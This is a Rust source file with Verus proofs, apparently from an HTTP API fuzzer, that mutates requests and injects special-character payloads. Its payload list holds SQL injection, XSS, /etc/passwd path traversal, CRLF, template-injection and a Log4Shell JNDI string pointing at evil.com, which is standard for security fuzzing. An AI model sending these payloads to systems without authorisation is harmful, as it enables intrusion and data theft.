//! Mutations of single requests: query parameters, body, path, injected special
//! characters, method and headers.
use vstd::prelude::*;
use libafl_bolts::rands::RomuDuoJrRand;
use super::rng::rand_below;
use super::input::{FuzzHttpRequest, RequestModel};
use super::sequence_mutator::MutationOutcome;
use crate::string_map::{StringMap, Entries, insert_entry, remove_entry};
use crate::text::{chars_of, string_of, append_chars, u64_decimal, decimal, rfind_char, last_index_of, replace_chars, replace_all, slice_chars};
use crate::json::{Json, JsonValue, json_parse, json_text, parse_json, to_json_text, obj_insert, object_set, members_model, lemma_object_model};

verus! {

// ---------------------------------------------------------------------------
// Fuzz values
// ---------------------------------------------------------------------------

/// Ten thousand `A`s.
pub open spec fn a_run() -> Seq<char> {
    Seq::new(10000, |i: int| 'A')
}

/// The values `generate_fuzz_value` can give: empty, ten thousand `A`s, a number below
/// 999999, `-1`, `null`, or `fuzz_` and a number below 10000.
pub open spec fn is_fuzz_value(s: Seq<char>) -> bool {
    ||| s.len() == 0
    ||| s == a_run()
    ||| exists|k: nat| k < 999999 && s == #[trigger] decimal(k)
    ||| s == "-1"@
    ||| s == "null"@
    ||| exists|k: nat| k < 10000 && s == "fuzz_"@ + #[trigger] decimal(k)
}

/// Ten thousand `A`s.
pub fn a_run_string() -> (r: String)
    ensures
        r@ == a_run(),
{
    let mut v: Vec<char> = Vec::new();
    let mut i: usize = 0;
    while i < 10000
        invariant
            i <= 10000,
            v@ == Seq::new(i as nat, |j: int| 'A'),
        decreases 10000 - i,
    {
        v.push('A');
        i += 1;
        assert(v@ =~= Seq::new(i as nat, |j: int| 'A'));
    }
    string_of(&v)
}

fn decimal_string(k: usize) -> (r: String)
    ensures
        r@ == decimal(k as nat),
{
    string_of(&u64_decimal(k as u64))
}

fn prefixed_decimal(prefix: &str, k: usize) -> (r: String)
    ensures
        r@ == prefix@ + decimal(k as nat),
{
    let mut v = chars_of(prefix);
    append_chars(&mut v, &u64_decimal(k as u64));
    string_of(&v)
}

/// The fuzz value for a draw: `choice` picks the kind, `k` is the number that the kinds
/// with a number use (below 999999 for kind 2, below 10000 for kind 5).
pub open spec fn fuzz_value_of(choice: nat, k: nat) -> Seq<char> {
    if choice == 0 {
        Seq::empty()
    } else if choice == 1 {
        a_run()
    } else if choice == 2 {
        decimal(k)
    } else if choice == 3 {
        "-1"@
    } else if choice == 4 {
        "null"@
    } else {
        "fuzz_"@ + decimal(k)
    }
}

/// A draw that `generate_fuzz_value` can make.
pub open spec fn fuzz_draw_ok(choice: nat, k: nat) -> bool {
    &&& choice < 6
    &&& choice == 2 ==> k < 999999
    &&& choice == 5 ==> k < 10000
}

/// The fuzz value for the kind `choice` and the number `k`.
pub fn fuzz_value_for(choice: usize, k: usize) -> (r: String)
    requires
        fuzz_draw_ok(choice as nat, k as nat),
    ensures
        r@ == fuzz_value_of(choice as nat, k as nat),
        is_fuzz_value(r@),
{
    if choice == 0 {
        let r = String::new();
        assert(r@ =~= Seq::<char>::empty());
        r
    } else if choice == 1 {
        a_run_string()
    } else if choice == 2 {
        let r = decimal_string(k);
        assert(exists|k: nat| k < 999999 && r@ == #[trigger] decimal(k));
        r
    } else if choice == 3 {
        "-1".to_owned()
    } else if choice == 4 {
        "null".to_owned()
    } else {
        let r = prefixed_decimal("fuzz_", k);
        assert(exists|k: nat| k < 10000 && r@ == "fuzz_"@ + #[trigger] decimal(k));
        r
    }
}

/// A random fuzz value: the kind is drawn below 6, and the kinds that carry a number draw
/// it below 999999 or below 10000.
pub fn generate_fuzz_value(rand: &mut RomuDuoJrRand) -> (r: String)
    ensures
        exists|c: nat, k: nat| fuzz_draw_ok(c, k) && r@ == #[trigger] fuzz_value_of(c, k),
        is_fuzz_value(r@),
{
    let choice = rand_below(rand, 6);
    let k = if choice == 2 {
        rand_below(rand, 999999)
    } else if choice == 5 {
        rand_below(rand, 10000)
    } else {
        0
    };
    let r = fuzz_value_for(choice, k);
    assert(fuzz_draw_ok(choice as nat, k as nat) && r@ == fuzz_value_of(choice as nat, k as nat));
    r
}

// ---------------------------------------------------------------------------
// JSON values
// ---------------------------------------------------------------------------

/// What `mutate_json_value` makes of `j` for the draws `action`, `k` and the fuzz value `v`:
/// an object gets a `fuzz_<k>` member set to `v` (action 0), or, when it has members, its
/// first member set to null (action 1) or to `v` (action 2); a string becomes `v`; a number
/// becomes `k`; anything else stays.
pub open spec fn json_mutation_of(j: Json, action: nat, k: nat, v: Seq<char>) -> Json {
    match j {
        Json::Object(m) => if action == 0 {
            Json::Object(obj_insert(m, "fuzz_"@ + decimal(k), Json::Str(v)))
        } else if m.len() == 0 {
            j
        } else if action == 1 {
            Json::Object(obj_insert(m, m[0].0, Json::Null))
        } else {
            Json::Object(obj_insert(m, m[0].0, Json::Str(v)))
        },
        Json::Str(_) => Json::Str(v),
        Json::Number(_) => Json::Number(decimal(k)),
        _ => j,
    }
}

/// Draws that `mutate_json_value` can make for `j`: an action below 3, a fuzz value, and a
/// number below 100 for a new object member or below 999999 for a number.
pub open spec fn json_draw_ok(j: Json, action: nat, k: nat, v: Seq<char>) -> bool {
    &&& action < 3
    &&& is_fuzz_value(v)
    &&& (j is Object && action == 0 ==> k < 100)
    &&& (j is Number ==> k < 999999)
}

/// What `mutate_json_value` can make of a value: its result for some draws it can make.
pub open spec fn json_mutated(j: Json, r: Json) -> bool {
    exists|action: nat, k: nat, v: Seq<char>| json_draw_ok(j, action, k, v) && r == #[trigger] json_mutation_of(j, action, k, v)
}

/// Mutates a JSON value for the given draws (see `json_mutation_of`).
pub fn apply_json_mutation(val: &mut JsonValue, action: usize, k: usize, v: String)
    ensures
        final(val).model() == json_mutation_of(old(val).model(), action as nat, k as nat, v@),
{
    let mut old_val = JsonValue::Null;
    std::mem::swap(&mut old_val, val);
    let r = match old_val {
        JsonValue::Object(members) => {
            let mut members = members;
            proof {
                lemma_object_model(members);
            }
            let ghost m = members_model(members@);
            if action == 0 {
                let key = prefixed_decimal("fuzz_", k);
                let ghost vv = v@;
                object_set(&mut members, key, JsonValue::Str(v));
                let r = JsonValue::Object(members);
                proof {
                    lemma_object_model(members);
                    assert(r.model() == Json::Object(obj_insert(m, "fuzz_"@ + decimal(k as nat), Json::Str(vv))));
                }
                r
            } else if members.len() == 0 {
                JsonValue::Object(members)
            } else if action == 1 {
                let key = members[0].0.clone();
                object_set(&mut members, key, JsonValue::Null);
                proof {
                    lemma_object_model(members);
                }
                JsonValue::Object(members)
            } else {
                let key = members[0].0.clone();
                let ghost vv = v@;
                object_set(&mut members, key, JsonValue::Str(v));
                let r = JsonValue::Object(members);
                proof {
                    lemma_object_model(members);
                    assert(r.model() == Json::Object(obj_insert(m, m[0].0, Json::Str(vv))));
                }
                r
            }
        },
        JsonValue::Str(_) => JsonValue::Str(v),
        JsonValue::Number(_) => JsonValue::Number(decimal_string(k)),
        other => other,
    };
    *val = r;
}

/// Makes the random draws that `mutate_json_value` makes for `j`, in its order.
fn draw_json_mutation(rand: &mut RomuDuoJrRand, j: &JsonValue) -> (r: (usize, usize, String))
    ensures
        json_draw_ok(j.model(), r.0 as nat, r.1 as nat, r.2@),
{
    match j {
        JsonValue::Object(members) => {
            let action = rand_below(rand, 3);
            if action == 0 {
                let k = rand_below(rand, 100);
                let v = generate_fuzz_value(rand);
                (action, k, v)
            } else if members.len() > 0 && action == 2 {
                let v = generate_fuzz_value(rand);
                (action, 0, v)
            } else {
                let v = String::new();
                assert(v@.len() == 0);
                (action, 0, v)
            }
        },
        JsonValue::Str(_) => (0, 0, generate_fuzz_value(rand)),
        JsonValue::Number(_) => {
            let k = rand_below(rand, 999999);
            let v = String::new();
            assert(v@.len() == 0);
            (0, k, v)
        },
        _ => {
            let v = String::new();
            assert(v@.len() == 0);
            (0, 0, v)
        },
    }
}

/// Mutates a JSON value in place with random draws (see `json_mutation_of`).
pub fn mutate_json_value(rand: &mut RomuDuoJrRand, val: &mut JsonValue)
    ensures
        json_mutated(old(val).model(), final(val).model()),
{
    let ghost j = val.model();
    let (action, k, v) = draw_json_mutation(rand, val);
    let ghost vv = v@;
    apply_json_mutation(val, action, k, v);
    assert(json_draw_ok(j, action as nat, k as nat, vv) && val.model() == json_mutation_of(j, action as nat, k as nat, vv));
}

// ---------------------------------------------------------------------------
// Request mutations
// ---------------------------------------------------------------------------

/// The request with other query parameters.
pub open spec fn with_query(o: RequestModel, q: Entries) -> RequestModel {
    RequestModel { query_params: q, ..o }
}

/// The request with other headers.
pub open spec fn with_headers(o: RequestModel, h: Entries) -> RequestModel {
    RequestModel { headers: h, ..o }
}

/// The request with another body.
pub open spec fn with_body(o: RequestModel, b: Option<Seq<char>>) -> RequestModel {
    RequestModel { body: b, ..o }
}

/// The request with another URL.
pub open spec fn with_url(o: RequestModel, u: Seq<char>) -> RequestModel {
    RequestModel { url: u, ..o }
}

/// The JSON body of a request, when it has one that parses.
pub open spec fn body_json(o: RequestModel) -> Option<Json> {
    match o.body {
        Some(b) => json_parse(b),
        None => None,
    }
}

/// Parses the body of a request.
pub fn parse_body(input: &FuzzHttpRequest) -> (r: Option<JsonValue>)
    ensures
        r matches Some(v) ==> body_json(input@) == Some(v.model()),
        r is None ==> body_json(input@) is None,
{
    match &input.body {
        Some(b) => parse_json(b.as_str()),
        None => None,
    }
}

/// What `mutate_query_params` does for the draws `action`, `k` and the fuzz value `v`: a
/// `fuzz_param_<k>` parameter set to `v` (action 0); or, when there are parameters, the
/// first one set to `v` (action 1) or removed (action 2).
pub open spec fn query_mutation_of(o: RequestModel, action: nat, k: nat, v: Seq<char>) -> RequestModel {
    let q = o.query_params;
    if action == 0 {
        with_query(o, insert_entry(q, "fuzz_param_"@ + decimal(k), v))
    } else if q.len() == 0 {
        o
    } else if action == 1 {
        with_query(o, insert_entry(q, q[0].0, v))
    } else {
        with_query(o, remove_entry(q, q[0].0))
    }
}

/// What `mutate_query_params` can do: its result for some draws it can make.
pub open spec fn query_params_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|action: nat, k: nat, v: Seq<char>|
        action < 3 && k < 100 && is_fuzz_value(v) && n == #[trigger] query_mutation_of(o, action, k, v)
}

/// Mutates the query parameters for the given draws (see `query_mutation_of`).
pub fn apply_query_mutation(input: &mut FuzzHttpRequest, action: usize, k: usize, v: String)
    requires
        old(input).wf(),
    ensures
        final(input)@ == query_mutation_of(old(input)@, action as nat, k as nat, v@),
        final(input).wf(),
{
    let ghost o = input@;
    let ghost vv = v@;
    if action == 0 {
        let key = prefixed_decimal("fuzz_param_", k);
        input.query_params.insert(key, v);
        assert(input@ == with_query(o, insert_entry(o.query_params, "fuzz_param_"@ + decimal(k as nat), vv)));
    } else {
        match input.query_params.first_key() {
            Some(key) => {
                if action == 1 {
                    input.query_params.insert(key, v);
                    assert(input@ == with_query(o, insert_entry(o.query_params, o.query_params[0].0, vv)));
                } else {
                    input.query_params.remove(key.as_str());
                    assert(input@ == with_query(o, remove_entry(o.query_params, o.query_params[0].0)));
                }
            },
            None => {
                assert(input@ == o);
            },
        }
    }
}

/// Mutates the query parameters with random draws (see `query_mutation_of`).
pub fn mutate_query_params(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        query_params_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let action = rand_below(rand, 3);
    let mut k: usize = 0;
    let mut v = String::new();
    assert(v@.len() == 0);
    if action == 0 {
        k = rand_below(rand, 100);
        v = generate_fuzz_value(rand);
    } else if action == 1 && input.query_params.len() > 0 {
        v = generate_fuzz_value(rand);
    }
    let ghost vv = v@;
    apply_query_mutation(input, action, k, v);
    assert(action < 3 && k < 100 && is_fuzz_value(vv) && input@ == query_mutation_of(o, action as nat, k as nat, vv));
}

/// What `mutate_body` does for the draws: the body left out (action 0), set to `null`, `{}`
/// or `[]` (actions 1 to 3); or (action 4) a JSON body mutated by `json_mutation_of` with
/// `ja`, `k` and `v`, a body that is not JSON left alone, and a missing body set to
/// `{"fuzz": "<v>"}`.
pub open spec fn body_mutation_of(o: RequestModel, action: nat, ja: nat, k: nat, v: Seq<char>) -> RequestModel {
    if action == 0 {
        with_body(o, None)
    } else if action == 1 {
        with_body(o, Some("null"@))
    } else if action == 2 {
        with_body(o, Some("{}"@))
    } else if action == 3 {
        with_body(o, Some("[]"@))
    } else {
        match o.body {
            Some(b) => match json_parse(b) {
                Some(j) => with_body(o, Some(json_text(json_mutation_of(j, ja, k, v)))),
                None => o,
            },
            None => with_body(o, Some("{\"fuzz\": \""@ + v + "\"}"@)),
        }
    }
}

/// Draws that `mutate_body` can make for the request `o`.
pub open spec fn body_draw_ok(o: RequestModel, action: nat, ja: nat, k: nat, v: Seq<char>) -> bool {
    &&& action < 5
    &&& is_fuzz_value(v)
    &&& (action == 4 && body_json(o) is Some ==> json_draw_ok(body_json(o)->0, ja, k, v))
}

/// What `mutate_body` can do: its result for some draws it can make.
pub open spec fn body_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|action: nat, ja: nat, k: nat, v: Seq<char>|
        body_draw_ok(o, action, ja, k, v) && n == #[trigger] body_mutation_of(o, action, ja, k, v)
}

/// Mutates the body for the given draws (see `body_mutation_of`).
pub fn apply_body_mutation(input: &mut FuzzHttpRequest, action: usize, ja: usize, k: usize, v: String)
    requires
        old(input).wf(),
    ensures
        final(input)@ == body_mutation_of(old(input)@, action as nat, ja as nat, k as nat, v@),
        final(input).wf(),
{
    let ghost o = input@;
    if action == 0 {
        input.body = None;
    } else if action == 1 {
        input.body = Some("null".to_owned());
    } else if action == 2 {
        input.body = Some("{}".to_owned());
    } else if action == 3 {
        input.body = Some("[]".to_owned());
    } else {
        let parsed = match &input.body {
            Some(b) => Some(parse_json(b.as_str())),
            None => None,
        };
        match parsed {
            Some(Some(val)) => {
                let mut val = val;
                apply_json_mutation(&mut val, ja, k, v);
                input.body = Some(to_json_text(&val));
            },
            Some(None) => {},
            None => {
                let mut t = chars_of("{\"fuzz\": \"");
                append_chars(&mut t, &chars_of(v.as_str()));
                append_chars(&mut t, &chars_of("\"}"));
                input.body = Some(string_of(&t));
                assert(input@ == with_body(o, Some("{\"fuzz\": \""@ + v@ + "\"}"@)));
            },
        }
    }
}

/// Mutates the body with random draws (see `body_mutation_of`).
pub fn mutate_body(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        body_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let action = rand_below(rand, 5);
    let mut ja: usize = 0;
    let mut k: usize = 0;
    let mut v = String::new();
    assert(v@.len() == 0);
    if action == 4 {
        match parse_body(input) {
            Some(j) => {
                let (a, kk, vv) = draw_json_mutation(rand, &j);
                ja = a;
                k = kk;
                v = vv;
            },
            None => {
                if input.body.is_none() {
                    v = generate_fuzz_value(rand);
                }
            },
        }
    }
    let ghost vv = v@;
    apply_body_mutation(input, action, ja, k, v);
    assert(body_draw_ok(o, action as nat, ja as nat, k as nat, vv) && input@ == body_mutation_of(o, action as nat, ja as nat, k as nat, vv));
}

/// The URL after its last `/`: with `value` in place of what followed it; unchanged
/// without a `/`.
pub open spec fn replace_last_segment(url: Seq<char>, value: Seq<char>) -> Seq<char> {
    match last_index_of(url, '/') {
        Some(p) => url.take(p + 1) + value,
        None => url,
    }
}

fn replace_last_segment_exec(url: &String, value: &String) -> (r: String)
    ensures
        r@ == replace_last_segment(url@, value@),
{
    let u = chars_of(url.as_str());
    match rfind_char(&u, '/') {
        Some(pos) => {
            let mut out = slice_chars(&u, 0, pos + 1);
            append_chars(&mut out, &chars_of(value.as_str()));
            string_of(&out)
        },
        None => url.clone(),
    }
}

/// What `mutate_url_path` does for the draws: `/../` appended to the URL (action 0); `/` and
/// the fuzz value `v` appended (action 1); or `v` in place of the last path segment.
pub open spec fn url_mutation_of(o: RequestModel, action: nat, v: Seq<char>) -> RequestModel {
    if action == 0 {
        with_url(o, o.url + "/../"@)
    } else if action == 1 {
        with_url(o, o.url + "/"@ + v)
    } else {
        with_url(o, replace_last_segment(o.url, v))
    }
}

/// What `mutate_url_path` can do: its result for some draws it can make.
pub open spec fn url_path_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|action: nat, v: Seq<char>| action < 3 && is_fuzz_value(v) && n == #[trigger] url_mutation_of(o, action, v)
}

/// Mutates the URL path for the given draws (see `url_mutation_of`).
pub fn apply_url_mutation(input: &mut FuzzHttpRequest, action: usize, v: String)
    requires
        old(input).wf(),
    ensures
        final(input)@ == url_mutation_of(old(input)@, action as nat, v@),
        final(input).wf(),
{
    let ghost o = input@;
    if action == 0 {
        let mut u = chars_of(input.url.as_str());
        append_chars(&mut u, &chars_of("/../"));
        input.url = string_of(&u);
    } else if action == 1 {
        let mut u = chars_of(input.url.as_str());
        u.push('/');
        append_chars(&mut u, &chars_of(v.as_str()));
        input.url = string_of(&u);
        proof {
            reveal_strlit("/");
        }
        assert(input.url@ =~= o.url + "/"@ + v@);
    } else {
        input.url = replace_last_segment_exec(&input.url, &v);
        assert(input@ == with_url(o, replace_last_segment(o.url, v@)));
    }
}

/// Mutates the URL path with random draws (see `url_mutation_of`).
pub fn mutate_url_path(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        url_path_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let action = rand_below(rand, 3);
    let v = if action == 0 {
        let e = String::new();
        assert(e@.len() == 0);
        e
    } else {
        generate_fuzz_value(rand)
    };
    let ghost vv = v@;
    apply_url_mutation(input, action, v);
    assert(action < 3 && is_fuzz_value(vv) && input@ == url_mutation_of(o, action as nat, vv));
}

/// The special-character payloads.
pub open spec fn special_payloads() -> Seq<Seq<char>> {
    seq![
        "'OR 1=1--"@,
        "<script>alert(1)</script>"@,
        "../../../etc/passwd"@,
        "%00"@,
        "\n\r\n"@,
        "{{7*7}}"@,
        "${jndi:ldap://evil.com}"@,
    ]
}

fn special_payload(i: usize) -> (r: &'static str)
    requires
        i < 7,
    ensures
        r@ == special_payloads()[i as int],
{
    if i == 0 { "'OR 1=1--" } else if i == 1 { "<script>alert(1)</script>" }
    else if i == 2 { "../../../etc/passwd" } else if i == 3 { "%00" } else if i == 4 { "\n\r\n" }
    else if i == 5 { "{{7*7}}" } else { "${jndi:ldap://evil.com}" }
}

/// The payload with its double quotes escaped, inside a JSON string member named `name`:
/// `{"<name>": "<escaped payload>"}`.
pub open spec fn quoted_member(name: Seq<char>, payload: Seq<char>) -> Seq<char> {
    "{\""@ + name + "\": \""@ + replace_all(payload, seq!['"'], seq!['\\', '"']) + "\"}"@
}

pub fn quoted_member_text(name: &str, payload: &str) -> (r: String)
    ensures
        r@ == quoted_member(name@, payload@),
{
    let mut t = chars_of("{\"");
    append_chars(&mut t, &chars_of(name));
    append_chars(&mut t, &chars_of("\": \""));
    let mut quote: Vec<char> = Vec::new();
    quote.push('"');
    let mut escaped: Vec<char> = Vec::new();
    escaped.push('\\');
    escaped.push('"');
    assert(quote@ =~= seq!['"']);
    assert(escaped@ =~= seq!['\\', '"']);
    append_chars(&mut t, &replace_chars(&chars_of(payload), &quote, &escaped));
    append_chars(&mut t, &chars_of("\"}"));
    string_of(&t)
}

/// What `inject_special_chars` does for the draws: payload `idx` put into the `injection`
/// query parameter (target 0), into a body that is there as `{"data": "<payload>"}`
/// (target 1; no body stays no body), or after a `/` at the end of the URL.
pub open spec fn special_chars_result(o: RequestModel, idx: int, target: nat) -> RequestModel {
    let p = special_payloads()[idx];
    if target == 0 {
        with_query(o, insert_entry(o.query_params, "injection"@, p))
    } else if target == 1 {
        if o.body is Some {
            with_body(o, Some(quoted_member("data"@, p)))
        } else {
            o
        }
    } else {
        with_url(o, o.url + "/"@ + p)
    }
}

/// What `inject_special_chars` can do: its result for some draws it can make.
pub open spec fn special_chars_injected(o: RequestModel, n: RequestModel) -> bool {
    exists|idx: int, target: nat| 0 <= idx < 7 && target < 3 && n == #[trigger] special_chars_result(o, idx, target)
}

/// Injects special-character payload `idx` at `target` (see `special_chars_result`).
pub fn apply_special_chars(input: &mut FuzzHttpRequest, idx: usize, target: usize)
    requires
        old(input).wf(),
        idx < 7,
    ensures
        final(input)@ == special_chars_result(old(input)@, idx as int, target as nat),
        final(input).wf(),
{
    let ghost o = input@;
    let payload = special_payload(idx).to_owned();
    let ghost p = special_payloads()[idx as int];
    if target == 0 {
        input.query_params.insert("injection".to_owned(), payload);
    } else if target == 1 {
        if input.body.is_some() {
            input.body = Some(quoted_member_text("data", payload.as_str()));
        }
    } else {
        let mut u = chars_of(input.url.as_str());
        u.push('/');
        append_chars(&mut u, &chars_of(payload.as_str()));
        input.url = string_of(&u);
        proof {
            reveal_strlit("/");
        }
        assert(input.url@ =~= o.url + "/"@ + p);
    }
}

/// Injects a random special-character payload (see `special_chars_result`).
pub fn inject_special_chars(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        special_chars_injected(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let idx = rand_below(rand, 7);
    let target = rand_below(rand, 3);
    apply_special_chars(input, idx, target);
    assert(input@ == special_chars_result(o, idx as int, target as nat));
}

/// The method names a mutation may set.
pub open spec fn mutation_methods() -> Seq<Seq<char>> {
    seq!["GET"@, "POST"@, "PUT"@, "DELETE"@, "PATCH"@]
}

/// The method replaced by one of five.
pub open spec fn method_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|i: int| 0 <= i < 5 && n == RequestModel { method: #[trigger] mutation_methods()[i], ..o }
}

/// Gives the request method name `idx` of `mutation_methods`.
pub fn apply_method_mutation(input: &mut FuzzHttpRequest, idx: usize)
    requires
        old(input).wf(),
        idx < 5,
    ensures
        final(input)@ == (RequestModel { method: mutation_methods()[idx as int], ..old(input)@ }),
        final(input).wf(),
{
    let m = if idx == 0 {
        "GET"
    } else if idx == 1 {
        "POST"
    } else if idx == 2 {
        "PUT"
    } else if idx == 3 {
        "DELETE"
    } else {
        "PATCH"
    };
    input.method = m.to_owned();
}

/// Gives the request a random method name of five.
pub fn mutate_method(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        method_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let idx = rand_below(rand, 5);
    apply_method_mutation(input, idx);
    assert(input@ == RequestModel { method: mutation_methods()[idx as int], ..o });
}

/// What `mutate_headers` does for the draws: `X-Fuzz-Header` set to the fuzz value `v`
/// (action 0); `Content-Type` set to `text/xml` (action 1); or `Authorization` set to
/// `Bearer ` and `v`.
pub open spec fn header_mutation_of(o: RequestModel, action: nat, v: Seq<char>) -> RequestModel {
    let h = o.headers;
    if action == 0 {
        with_headers(o, insert_entry(h, "X-Fuzz-Header"@, v))
    } else if action == 1 {
        with_headers(o, insert_entry(h, "Content-Type"@, "text/xml"@))
    } else {
        with_headers(o, insert_entry(h, "Authorization"@, "Bearer "@ + v))
    }
}

/// What `mutate_headers` can do: its result for some draws it can make.
pub open spec fn headers_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|action: nat, v: Seq<char>| action < 3 && is_fuzz_value(v) && n == #[trigger] header_mutation_of(o, action, v)
}

/// Mutates the headers for the given draws (see `header_mutation_of`).
pub fn apply_header_mutation(input: &mut FuzzHttpRequest, action: usize, v: String)
    requires
        old(input).wf(),
    ensures
        final(input)@ == header_mutation_of(old(input)@, action as nat, v@),
        final(input).wf(),
{
    let ghost o = input@;
    if action == 0 {
        let ghost vv = v@;
        input.headers.insert("X-Fuzz-Header".to_owned(), v);
        assert(input@ == with_headers(o, insert_entry(o.headers, "X-Fuzz-Header"@, vv)));
    } else if action == 1 {
        input.headers.insert("Content-Type".to_owned(), "text/xml".to_owned());
    } else {
        let mut t = chars_of("Bearer ");
        append_chars(&mut t, &chars_of(v.as_str()));
        input.headers.insert("Authorization".to_owned(), string_of(&t));
        assert(input@ == with_headers(o, insert_entry(o.headers, "Authorization"@, "Bearer "@ + v@)));
    }
}

/// Mutates the headers with random draws (see `header_mutation_of`).
pub fn mutate_headers(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        headers_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let action = rand_below(rand, 3);
    let v = if action == 1 {
        let e = String::new();
        assert(e@.len() == 0);
        e
    } else {
        generate_fuzz_value(rand)
    };
    let ghost vv = v@;
    apply_header_mutation(input, action, v);
    assert(action < 3 && is_fuzz_value(vv) && input@ == header_mutation_of(o, action as nat, vv));
}

/// Mutates requests by changing query parameters, body, path, method or headers, or by
/// injecting special characters.
#[derive(Debug)]
pub struct HttpRequestMutator {}

impl HttpRequestMutator {
    pub fn new() -> (r: Self) {
        HttpRequestMutator {}
    }

    /// One of six mutations, picked at random.
    pub fn mutate(&mut self, rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest) -> (r: MutationOutcome)
        requires
            old(input).wf(),
        ensures
            r == MutationOutcome::Mutated,
            final(input).wf(),
            query_params_mutated(old(input)@, final(input)@) || body_mutated(old(input)@, final(input)@)
                || url_path_mutated(old(input)@, final(input)@) || special_chars_injected(old(input)@, final(input)@)
                || method_mutated(old(input)@, final(input)@) || headers_mutated(old(input)@, final(input)@),
    {
        let choice = rand_below(rand, 6);
        if choice == 0 {
            mutate_query_params(rand, input);
        } else if choice == 1 {
            mutate_body(rand, input);
        } else if choice == 2 {
            mutate_url_path(rand, input);
        } else if choice == 3 {
            inject_special_chars(rand, input);
        } else if choice == 4 {
            mutate_method(rand, input);
        } else {
            mutate_headers(rand, input);
        }
        MutationOutcome::Mutated
    }
}

} // verus!
